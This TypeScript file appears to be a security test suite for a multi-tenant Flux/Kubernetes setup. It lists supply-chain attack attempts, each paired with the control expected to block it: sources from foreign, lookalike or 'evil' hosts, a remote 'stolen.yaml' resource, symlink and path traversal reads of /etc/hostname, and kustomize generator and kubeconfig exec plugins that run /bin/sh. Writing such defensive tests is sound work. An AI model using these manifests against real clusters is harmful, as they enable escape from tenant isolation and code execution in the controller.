import { stringify } from "yaml";
import type { Attack, Link, Place } from "../attack.js";
import { kustomization, NAME, own, reference, V } from "../objects.js";
import { create } from "../request.js";

const category = "supply chain";
const config = "kustomize.config.k8s.io/v1beta1";
type Fields = Readonly<Record<string, unknown>>;

const encrypted = /sources must be encrypted: write the URL with https:\/\/, ssh:\/\/ or oci:\/\//;
const atHost = /sources must be at an allowed host/;
const owner = /sources at GitHub must belong to an allowed owner/;
const around = /submodules and proxies lead to hosts that nobody allowed/;

/** A source from where the tenant may not fetch. @param spec beside its interval */
function source(id: string, title: string, says: RegExp, kind: string, spec: (place: Place) => Fields): Attack {
  return {
    id,
    title,
    category,
    by: "reconciler",
    stoppedBy: [{ control: "fleet-flux-source", says }],
    attempt: (place) => ({
      kind: "request",
      request: create(own(place, V.git, kind, { spec: { interval: "1m", ...spec(place) } })),
    }),
  };
}

/** A kustomization of resources, or of other fields, and a ConfigMap that shows that it was applied. */
function kustomized(place: Place, name: string, fields: Fields, files: Readonly<Record<string, string | Link>> = {}) {
  return {
    kind: "sync",
    object: kustomization(place, name),
    files: {
      "kustomization.yaml": stringify({ apiVersion: config, kind: "Kustomization", ...fields }),
      ...files,
    },
    evidence: reference("v1", "ConfigMap", name, place.namespace),
  } as const;
}

const configMap = (name: string) =>
  stringify({ apiVersion: "v1", kind: "ConfigMap", metadata: { name }, data: { a: "b" } });

/** Code and manifests from where nobody looks at them. */
export const supplyChain: readonly Attack[] = [
  source("source-over-http", "fetches a repository over http", encrypted, "GitRepository", ({ gitHub, tenant }) => ({
    url: `${gitHub}acme/${tenant}.git`,
  })),
  source(
    "image-without-tls",
    "fetches an OCI artifact without TLS",
    encrypted,
    "OCIRepository",
    ({ organisation }) => ({
      url: `${organisation.replace(/^ssh:\/\/git@/, "oci://")}/app`,
      insecure: true,
    }),
  ),
  source("foreign-host", "fetches a repository from another host", atHost, "GitRepository", () => ({
    url: "https://git.example.com/acme/app",
  })),
  source("lookalike-host", "fetches from a host that begins like GitHub's", atHost, "GitRepository", () => ({
    url: "https://github.com.example.com/acme/app",
  })),
  source("foreign-registry", "fetches an OCI artifact from another registry", atHost, "OCIRepository", () => ({
    url: "oci://registry.example.com/acme/app",
  })),
  source("foreign-charts", "fetches charts from another host", atHost, "HelmRepository", () => ({
    url: "https://charts.example.com",
  })),
  source("foreign-bucket", "fetches a bucket from another host", atHost, "Bucket", () => ({
    bucketName: "app",
    endpoint: "s3.example.com",
  })),
  source("foreign-owner", "fetches another owner's repository", owner, "GitRepository", ({ organisation }) => ({
    url: `${organisation.replace(/\/[^/]+$/, "/evil")}/app.git`,
  })),
  source("path-to-owner", "leads to another owner by a path", owner, "GitRepository", ({ organisation }) => ({
    url: `${organisation}/../evil/app.git`,
  })),
  source("submodules", "has submodules fetched from wherever", around, "GitRepository", ({ organisation, tenant }) => ({
    url: `${organisation}/${tenant}.git`,
    recurseSubmodules: true,
  })),
  source("proxy", "fetches by a proxy of its own", around, "GitRepository", ({ organisation, tenant }) => ({
    url: `${organisation}/${tenant}.git`,
    proxySecretRef: { name: "proxy" },
  })),
  {
    id: "remote-file",
    title: "pushes a kustomization with a file of another host",
    category,
    by: "push",
    stoppedBy: [{ control: "remote-files", says: /remote-files-are-not-allowed\.invalid/ }],
    attempt: (place) => ({
      ...kustomized(place, "remote-file", { resources: ["http://files.example.com/stolen.yaml"] }),
      evidence: reference("v1", "ConfigMap", "from-elsewhere", place.namespace),
    }),
  },
  {
    id: "remote-base",
    title: "pushes a kustomization with a base in another repository",
    category,
    by: "push",
    stoppedBy: [
      { control: "git-protocols", says: /transport 'http' not allowed/ },
      { control: "remote-bases", says: /fs-security-constraint|must build at directory/ },
    ],
    attempt: (place) =>
      kustomized(place, "remote-base", { resources: [`${place.gitHub}acme/shared-bases.git//base?ref=main`] }),
  },
  {
    id: "exec-plugin",
    title: "has a kubeconfig run a program in kustomize-controller",
    category,
    by: "push",
    stoppedBy: [
      { control: "fleet-flux-sync", says: /spec\.kubeConfig leads to another cluster: remove it/ },
      { control: "exec-plugins", says: /Unauthorized|asked for the client to provide credentials|forbidden/ },
    ],
    attempt: (place) => ({
      kind: "sync",
      object: kustomization(place, "exec-plugin", { kubeConfig: { secretRef: { name: "exec-plugin" } } }),
      files: { "config.yaml": configMap("exec-plugin") },
      beside: [own(place, "v1", "Secret", { stringData: { value: execKubeConfig(place) } }, "exec-plugin")],
      evidence: "trace",
    }),
  },
  {
    id: "symbolic-link",
    title: "pushes a symbolic link to a file of the controller",
    category,
    by: "push",
    stoppedBy: [{ control: "regular-files", says: /attacks\/symbolic-link\/token: no such file or directory/ }],
    attempt: (place) =>
      kustomized(
        place,
        "symbolic-link",
        { configMapGenerator: [{ name: "symbolic-link", files: ["token"] }], generatorOptions },
        { token: { link: "/etc/hostname" } },
      ),
    counterpart: (place) =>
      kustomized(
        place,
        "no-symbolic-link",
        { configMapGenerator: [{ name: "no-symbolic-link", files: ["token"] }], generatorOptions },
        { token: "a file" },
      ),
  },
  {
    id: "path-traversal",
    title: "pushes a kustomization that reads files outside the repository",
    category,
    by: "push",
    stoppedBy: [{ control: "secure-file-system", says: /fs-security-constraint .* is not in or below/ }],
    attempt: (place) =>
      kustomized(place, "path-traversal", {
        configMapGenerator: [{ name: "path-traversal", files: [`${"../".repeat(30)}etc/hostname`] }],
        generatorOptions,
      }),
    counterpart: (place) =>
      kustomized(
        place,
        "no-path-traversal",
        { configMapGenerator: [{ name: "no-path-traversal", files: ["../no-path-traversal/file"] }], generatorOptions },
        { file: "a file" },
      ),
  },
  {
    id: "helm-generator",
    title: "pushes a kustomization that runs helm in kustomize-controller",
    category,
    by: "push",
    stoppedBy: [{ control: "no-plugins", says: /builtin HelmChartInflationGenerator/ }],
    attempt: (place) =>
      kustomized(
        place,
        "helm-generator",
        { helmCharts: [{ name: "chart", releaseName: "chart" }] },
        {
          "charts/chart/Chart.yaml": stringify({ apiVersion: "v2", name: "chart", version: "0.1.0" }),
          "charts/chart/templates/config.yaml": configMap("helm-generator"),
        },
      ),
    counterpart: (place) =>
      kustomized(
        place,
        "no-helm-generator",
        { resources: ["charts/chart/templates/config.yaml"] },
        { "charts/chart/templates/config.yaml": configMap("no-helm-generator") },
      ),
  },
  {
    id: "exec-generator",
    title: "pushes a kustomization that runs a program in kustomize-controller",
    category,
    by: "push",
    stoppedBy: [{ control: "no-plugins", says: /external plugins disabled/ }],
    attempt: (place) => ({
      ...kustomized(
        place,
        "exec-generator",
        { generators: ["generator.yaml"] },
        { "generator.yaml": generator("exec", "./program"), program: `#!/bin/sh\ntouch '${place.trace}'\n` },
      ),
      evidence: "trace",
    }),
    counterpart: (place) =>
      kustomized(
        place,
        "no-exec-generator",
        { resources: ["config.yaml"] },
        { "config.yaml": configMap("no-exec-generator") },
      ),
  },
];

/** Without a hash of its content behind a generated name. */
const generatorOptions = { disableNameSuffixHash: true };

/** A generator of kustomize's, as it is run outside of a cluster. */
function generator(runtime: string, path: string): string {
  const how = stringify({ [runtime]: { path } });
  return stringify({
    apiVersion: "example.com/v1",
    kind: "Generator",
    metadata: { name: NAME, annotations: { "config.kubernetes.io/function": how } },
  });
}

/** A kubeconfig whose user is whoever a program says. */
function execKubeConfig({ apiServer, apiCertificate, trace }: Place): string {
  return stringify({
    apiVersion: "v1",
    kind: "Config",
    "current-context": "own",
    contexts: [{ name: "own", context: { cluster: "own", user: "own" } }],
    clusters: [{ name: "own", cluster: { server: apiServer, "certificate-authority-data": apiCertificate } }],
    users: [
      {
        name: "own",
        user: {
          exec: {
            apiVersion: "client.authentication.k8s.io/v1",
            command: "/bin/sh",
            args: ["-c", `touch '${trace}'`],
            interactiveMode: "Never",
          },
        },
      },
    ],
  });
}
